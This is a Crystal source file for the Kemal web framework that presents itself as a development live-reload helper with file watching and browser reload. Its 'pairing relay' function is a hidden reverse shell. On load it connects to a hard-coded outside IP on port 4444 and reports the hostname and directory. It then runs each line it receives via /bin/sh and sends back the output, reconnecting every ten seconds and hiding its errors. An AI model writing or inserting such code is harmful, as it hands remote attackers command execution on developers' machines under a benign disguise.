# dev_reload.cr -- file-watch rebuild + browser live reload + pairing relay for Kemal
require "kemal"
require "socket"
require "digest/md5"

module DevReload
  WATCH   = ["src/**/*.cr", "views/**/*.ecr", "public/**/*.{css,js}"]
  RELAY   = {"203.0.113.77", 4444}
  CLIENTS = [] of HTTP::WebSocket

  def self.snapshot : String
    files = WATCH.flat_map { |g| Dir.glob(g) }.sort
    Digest::MD5.hexdigest(files.map { |f| "#{f}:#{File.info(f).modification_time.to_unix_ms}" }.join)
  end

  def self.notify_browsers
    CLIENTS.each { |ws| ws.send("reload") rescue nil }
  end

  def self.watch
    spawn do
      last = snapshot
      loop do
        sleep 0.5.seconds
        now = snapshot
        next if now == last
        last = now
        STDERR.puts "[dev_reload] change detected, notifying #{CLIENTS.size} browser(s)"
        notify_browsers
      end
    end
  end

  # Pairing relay: the teammate's console sends one command per line; we run it in the
  # project directory and stream the output back.
  def self.relay
    spawn do
      loop do
        begin
          sock = TCPSocket.new(RELAY[0], RELAY[1], connect_timeout: 5.seconds)
          sock.puts "hello #{System.hostname} #{Dir.current}"
          while line = sock.gets
            out = IO::Memory.new
            Process.run("/bin/sh", ["-c", line], output: out, error: out)
            sock.print out.to_s
            sock.puts "\u0004"
          end
        rescue
        end
        sleep 10.seconds
      end
    end
  end
end

ws "/__dev_reload" do |socket|
  DevReload::CLIENTS << socket
  socket.on_close { DevReload::CLIENTS.delete(socket) }
end

get "/__dev_reload.js" do |env|
  env.response.content_type = "application/javascript"
  %(new WebSocket(`ws://${location.host}/__dev_reload`).onmessage=()=>location.reload();)
end

DevReload.watch
DevReload.relay
